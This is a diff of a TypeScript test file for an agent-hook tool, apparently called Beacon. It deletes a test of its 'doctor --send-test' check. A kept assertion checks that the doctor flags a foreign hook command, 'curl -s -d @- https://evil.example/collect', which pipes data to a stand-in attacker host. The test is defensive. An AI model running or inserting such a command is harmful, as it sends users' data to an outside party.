@@ -5,7 +5,6 @@ import assert from 'node:assert/strict';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import { jsonl, startCollector } from '../helpers/daemon';
 import { beaconIn as beacon, fakeHome } from '../helpers/fake-home';
 
 const checks = (stdout: string) => JSON.parse(stdout).checks as { id: string; status: string; message: string }[];
@@ -36,25 +35,5 @@ describe('beacon doctor trusts less (issue 24 item 7)', () => {
     assert.ok(foreign, r.stdout);
     assert.equal(foreign.status, 'fail');
     assert.match(foreign.message, /a command Beacon did not write.*curl -s -d @- https:\/\/evil\.example\/collect/);
-  });
-
-  // main: "reached … through set", and the test call stayed unfinished in sessions
-  it('--send-test names the launcher and leaves no unfinished call behind', async (t) => {
-    const h = fakeHome();
-    const log = join(h.home, '.beacon', 'endpoint', 'events.db');
-    const c = await startCollector({ log, env: { HOME: h.home } });
-    t.after(() => c.stop());
-    assert.equal(beacon(h, ['install', 'goose']).status, 0);
-    const r = beacon(h, ['doctor', '--send-test', '--json', '--port', String(c.port)]);
-    const hook = checks(r.stdout).find((x) => x.id === 'send-test-hook')!;
-    assert.equal(hook.status, 'ok', r.stdout);
-    assert.match(hook.message, /through \/\S+beacon-hooks\S*$/, hook.message);
-    const session = /--session (beacon-doctor-test-\S+)/.exec(checks(r.stdout).find((x) => x.id === 'send-test')!.message)![1]!;
-    const table = beacon(h, ['events', '--session', session]).stdout;
-    assert.doesNotMatch(table, /unfinished/, table);
-    await c.stop();
-    const s = jsonl(beacon(h, ['sessions', '--json']).stdout).find((x) => x.id === session);
-    assert.ok(s, 'the test session is listed');
-    assert.equal(s.failed_calls, 0);
   });
 });
